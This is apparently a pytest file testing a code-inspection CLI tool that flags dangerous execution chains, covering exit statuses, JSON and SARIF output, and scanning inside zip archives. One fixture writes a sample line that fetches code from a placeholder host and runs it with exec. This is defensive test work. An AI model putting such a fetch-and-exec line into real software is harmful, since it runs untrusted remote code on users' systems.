"""`sekisho inspect`: exit status, formats, and input that is none."""

import json
import zipfile
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner, Result

from sekisho.cli.inspect import inspect
from sekisho.inspection.virtual import UnjudgeableInput

APP = typer.Typer()
APP.command()(inspect)


def run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(APP, [str(each) for each in arguments])


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    (tmp_path / "app.py").write_text("import requests\nexec(requests.get('https://a.invalid').text)\n")
    return tmp_path


@pytest.fixture
def doubtful(tmp_path: Path) -> Path:
    (tmp_path / "build.rs").write_text("fn main() {}\n")
    return tmp_path


def test_a_chain_ends_with_status_1(hostile: Path) -> None:
    done = run(hostile)
    assert done.exit_code == 1
    assert done.output.startswith("BLOCK\n")


def test_no_chain_ends_with_status_0(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("print(1)\n")
    done = run(tmp_path)
    assert done.exit_code == 0
    assert done.output.startswith("NO CHAIN FOUND\n")


def test_review_ends_with_status_1_unless_only_block_shall(doubtful: Path) -> None:
    assert run(doubtful).exit_code == 1
    assert run(doubtful, "--fail-on", "block").exit_code == 0


def test_json_and_sarif_are_one_document_each(hostile: Path) -> None:
    assert json.loads(run(hostile, "--format", "json").output)["verdict"] == "block"
    assert json.loads(run(hostile, "--format", "sarif").output)["version"] == "2.1.0"


def test_an_archive_is_read_where_it_lies(hostile: Path) -> None:
    path = hostile / "test.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(hostile / "app.py", "task/app.py")
    assert "test.zip!/task/app.py:2" in run(path).output
    assert sorted(each.name for each in hostile.iterdir()) == ["app.py", "test.zip"]


def test_what_is_not_there_is_no_answer(tmp_path: Path) -> None:
    assert isinstance(run(tmp_path / "nothing").exception, UnjudgeableInput)
